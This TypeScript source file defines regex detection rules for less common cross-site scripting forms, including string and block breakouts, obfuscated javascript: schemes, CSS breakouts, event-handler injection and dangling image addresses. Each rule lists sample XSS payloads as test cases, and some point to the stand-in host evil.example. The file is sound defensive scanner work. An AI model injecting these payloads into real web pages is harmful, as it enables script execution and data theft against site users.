import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import { WORD } from '../value/words.ts'

const CALLED = 'alert|confirm|prompt|eval|print|settimeout|setinterval|fetch|atob|open'
const OBJECT = '(?:self|window|top|parent|frames|globalthis|document|this)\\s{0,2}\\??\\.?\\s{0,2}'

/** Script in a page in less common forms: calls that ask first, and other ways out of a string. */
export const xssFormRules: readonly Rule[] = [
  // A call that is made where there is something to call: who writes one by hand knows that there is.
  pattern(
    'xss/optional-call',
    new RegExp(
      `\\b(?:alert|confirm|prompt|eval)\\s{0,2}\\?\\.\\s{0,2}[(\`]|\\b(?:self|window|top|parent|frames|globalthis)\\s{0,2}\\?\\.\\s{0,2}(?:\\[|(?:${CALLED})\\s{0,2}(?:\\?\\.)?\\s{0,2}[(\`])`,
    ),
    {
      score: 5,
      quotable: true,
      words: WORD.script,
      attacks: ['alert?.(1)', 'self?.alert?.(1)', "window?.['alert'](1)", 'top?.eval(name)'],
      benign: ['user?.name', 'alerts?.(1)', 'is it top? .alert', 'window?.location'],
    },
  ),
  // Out of a string by operators that no sentence has behind a quote, and into a call.
  pattern(
    'xss/string-end',
    new RegExp(
      `^[^\\n]{0,80}?["'\`][ \\t\\r\\n\\u2028\\u2029]{0,4}(?:[;,)\\]}+*/%|&^?<=!~-][ \\t\\r\\n\\u2028\\u2029]{0,4}){1,8}(?:(?:void|typeof|delete|new|throw)\\b)?[\\s({!~+-]{0,6}(?:\\(?\\)?\\s{0,2}=>\\s{0,2}\\{?|function\\s{0,2}\\(\\s{0,2}\\)\\s{0,2}\\{)?\\s{0,2}(?:\\w{1,3}\\s{0,2}=\\s{0,2}[\\w.]{1,12}\\s{0,2};\\s{0,2})?(?:${OBJECT})?(?:alert|confirm|prompt|eval|print|settimeout|setinterval)\\s{0,2}\\)?\\s{0,2}(?:\\?\\.)?\\s{0,2}(?:\\(\\s{0,2}(?:\\d|\\)|["'\`/]|\\w{1,16}\\)|document|location|window|self|origin)|\`)`,
    ),
    {
      score: 5,
      quotable: true,
      atStart: true,
      words: WORD.script,
      attacks: [
        "'%alert(1)%'",
        "\\'<confirm`1`<'",
        "';!print()//",
        '";\nalert(1)\n//',
        "';void(alert(1))//",
        "'};alert(1);{'",
        "';(()=>{alert(1)})()//",
        "'==eval(name)=='",
      ],
      benign: [
        "he said 'alert' (1)",
        '"a", alert the user',
        "'x'; print the page",
        "it's (print) time",
        '"Hello," print(1)'.replace('print(1)', 'printed'),
      ],
    },
  ),
  pattern(
    'xss/literal-call',
    new RegExp(
      `\\$\\{\\s{0,4}(?:\\{\\s{0,2}\\}\\s{0,2}\\.\\w{1,12}\\s{0,2}=\\s{0,2})?(?:${OBJECT})?(?:alert|confirm|prompt|eval)\\s{0,2}(?:\\?\\.)?\\s{0,2}[(\`]|\`\\s{0,2};\\s{0,2}(?:${OBJECT})?(?:alert|confirm|prompt|eval|print)\\s{0,2}[(\`]`,
    ),
    {
      score: 5,
      quotable: true,
      words: WORD.script,
      attacks: ['${{}.x=alert(1)}', '${self.alert(1)}', '`;print()//'],
      benign: ['${alerts}', '`a`; print it', '${window.title}'],
    },
  ),
  // With a line end or a tab inside of its first word, which browsers drop (URL, section 4.4) and nobody
  // writes.
  {
    ...pattern(
      'xss/broken-scheme',
      /j(?:[\t\r\n]{1,8}a[\t\r\n]{0,8}v[\t\r\n]{0,8}|a[\t\r\n]{1,8}v[\t\r\n]{0,8}|av[\t\r\n]{1,8})a[\t\r\n]{0,8}s[\t\r\n]{0,8}c[\t\r\n]{0,8}r[\t\r\n]{0,8}i[\t\r\n]{0,8}p[\t\r\n]{0,8}t[\t\r\n]{0,8}:/,
      {
        score: 5,
        quotable: true,
        chars: CHAR.colon,
        attacks: ['see ja\tvascript:alert(1)', 'x.jav\nascript:', 'aj\rava\rscr\tipt:x'],
        benign: ['java\nscript: a language', 'javascript\n: x', 'ja\tva: script'],
      },
    ),
    needs: [/(?:j|ja|jav)[\t\n\r][\s\S]{7,}:/],
  },
  // Out of one property of a style sheet, into rules of one's own that fetch.
  pattern(
    'xss/style-break',
    /^-?[\d.]{1,8}\w{0,3}\s{0,2}\)?\s{0,2};\s{0,2}\}?\s{0,2}[\w.#*]{1,20}\s{0,2}\{[^}\n]{0,60}(?:url|expression)\s{0,2}\(/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.brace,
      attacks: ['0);body{background:url(x)', '1px;}*{background:url(//evil.example/x)'],
      benign: ['body{background:url(x)}', '0); body { margin: 0 }', '1.5em'],
    },
  ),
  // Words that are operators: `'x' in alert(1) in 'y'`.
  pattern(
    'xss/operator-word',
    new RegExp(
      `["'\`;]\\s{0,4}(?:\\w{1,8}\\s{1,4})?(?:in|instanceof)\\s{1,4}(?:${OBJECT})?(?:alert|confirm|prompt|eval)\\s{0,2}[(\`]`,
    ),
    {
      score: 5,
      quotable: true,
      words: WORD.script,
      attacks: ["'te' in alert('in') in 'xt'", "'a' instanceof alert(1)", "';x in self.eval(name);'"],
      benign: ["'on' in alert mode", 'shown in alert (red)', "it's in prompt form"],
    },
  ),
  // The scheme of a script, put together of texts: `'java'+'script:'`.
  pattern(
    'xss/joined-scheme',
    new RegExp(
      `\\bj(?=[avscript]{0,8}["'\`]\\s{0,2}\\+)${[...'avascript:'].map(letter => `(?:["'\`]\\s{0,2}\\+\\s{0,2}["'\`])?${letter}`).join('')}`,
    ),
    {
      score: 5,
      quotable: true,
      chars: CHAR.plus,
      attacks: ["open('java'+'script:ale'+'rt(11)')", 'location="j"+"ava"+"script:x"'],
      benign: ["'java'+'script'", '"javascript" + ":"', 'java + script: both', "'javascript:'"],
    },
  ),
  // Functions of the page by their number, called without a name, and what cookies are read with.
  pattern(
    'xss/unnamed-call',
    /\b(?:self|window|top|parent|frames|globalthis|this)\s{0,2}\[\s{0,2}object\s{0,2}\.\s{0,2}(?:keys|values|entries|getownpropertynames)\s{0,2}\(|\breflect\s{0,2}\.\s{0,2}(?:apply|construct)\s{0,2}\(\s{0,2}(?:alert|confirm|prompt|eval|function|fetch|settimeout)\b|\bcookiestore\s{0,2}\.\s{0,2}get(?:all)?\s{0,2}\([^()\n]{0,60}\)\s{0,2}\.\s{0,2}then\s{0,2}\(/,
    {
      score: 5,
      quotable: true,
      words: WORD.script,
      attacks: [
        'self[Object.keys(self)[5]]("1")',
        'Reflect.apply(alert,0,[1])',
        "window.cookieStore.get('a').then(x=>x)",
      ],
      benign: ['Object.keys(self)', 'Reflect.apply(target, self, args)', "cookieStore.get('a')"],
    },
  ),
  // Behind a number or a name, where a script has a value without quotes: `1-alert(1)`.
  pattern(
    'xss/operand-call',
    /^[\w.]{1,24}\s?(?:[-+*/%^,;]|\|\||&&|[=!]=)\s?(?:(?:top|window|self|parent)\.)?\(?(?:(?:alert|confirm|prompt|eval)\)?[(`]\s?(?:\d{1,8}|["'`][^"'`\n]{0,60}["'`]|document\.\w{1,24}|origin)\s?[)`]|print\(\))/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.paren | CHAR.backtick,
      words: WORD.script,
      attacks: [
        '1-alert(1)',
        "x+prompt('a')",
        '1;top.alert(1)',
        '5/print()',
        '1-alert`1`',
        '0||(alert)(document.domain)',
      ],
      benign: ['yes/confirm (required)', 'a-alert(s)', '5-alert', 'red; alert (1)!', '3*eval(x)'],
    },
  ),
  // Code as a template with a tag: there is no reason to write it so.
  pattern('xss/tagged-code', /\bnew Function`[^`\n]/, {
    score: 5,
    quotable: true,
    exactCase: true,
    chars: CHAR.backtick,
    attacks: ['new Function`al\\ert\\`6\\``'],
    benign: ['a new function `x`', 'new Function("a")', 'new Function `x`'],
  }),
  // Out of a block of a script.
  pattern('xss/block-break', /^[\w'"]{0,16}\}\s{0,2};?\s{0,2}(?:alert|confirm|prompt)\s{0,2}[(`]/, {
    score: 5,
    quotable: true,
    atStart: true,
    chars: CHAR.paren | CHAR.backtick,
    words: WORD.script,
    attacks: ['}alert(/INJECTX/);{//', "x'};alert(1)//", '};prompt`1`'],
    benign: ['}alerts(1)', 'function x() { alert(1) }'],
  }),
  // An attribute that the application's own quote closes, or that goes to the end of what it writes.
  pattern(
    'xss/open-handler',
    /^(?:[\w -]{0,24}["'][\s/]{0,4}|\s{1,4})on(?:load|error|click|dblclick|focus|focusin|blur|resize|mouse\w{2,8}|key\w{2,5}|submit|reset|select|toggle|change|input|wheel|pointer\w{2,12}|scroll|begin|animation\w{2,9}|transition\w{2,8}|unload|show|copy|cut|paste|drag\w{0,6}|drop)\s{0,2}=\s{0,2}(?:(?<=["'][\s/]{0,4}on\w{1,20}\s{0,2}=\s{0,2})[\w.(/][^"'<>\n]{0,80}|["'][^"'<>\n]{1,80})$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.equals,
      words: WORD.handler,
      places: ['query', 'form', 'cookie', 'path'],
      attacks: ['"onmouseover=x', ' onload="x', `' onresize="go()`, 'x" onfocus=alert(1)'],
      benign: [
        ' onclick="return false;"',
        '"onload="',
        'how "onclick" works',
        '"onclick=doIt()"',
        'onload=x',
        "'on = off'",
      ],
    },
  ),
  // A value that htmx evaluates.
  pattern('xss/evaluated-values', /\bhx-(?:vals|headers|vars)\s{0,2}=\s{0,2}["']?\s{0,2}(?:js|javascript):/, {
    score: 5,
    quotable: true,
    chars: CHAR.equals,
    attacks: [`<div hx-vals='js:{x:alert(1)}'>`, 'hx-headers="javascript:{a:1}"'],
    benign: [`<div hx-vals='{"a":1}'>`, 'hx-vals="js"'],
  }),
  // A picture whose address is not ended: all of the page behind it becomes a part of that.
  pattern(
    'xss/open-address',
    /<(?:img|image|iframe|embed|input|video|audio|link|base)\s[^<>"']{0,80}\b(?:src|href|poster)\s{0,2}=\s{0,2}(["'])(?:https?:)?\/\/[^"'<>\s]{3,200}[?=]$/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.less,
      attacks: ['<img src="//evil.example/?', "x'><img src='https://evil.example/a?q="],
      benign: ['<img src="//cdn.example/x.png">', '<img src="https://', '<a href="//a.example/?'],
    },
  ),
]
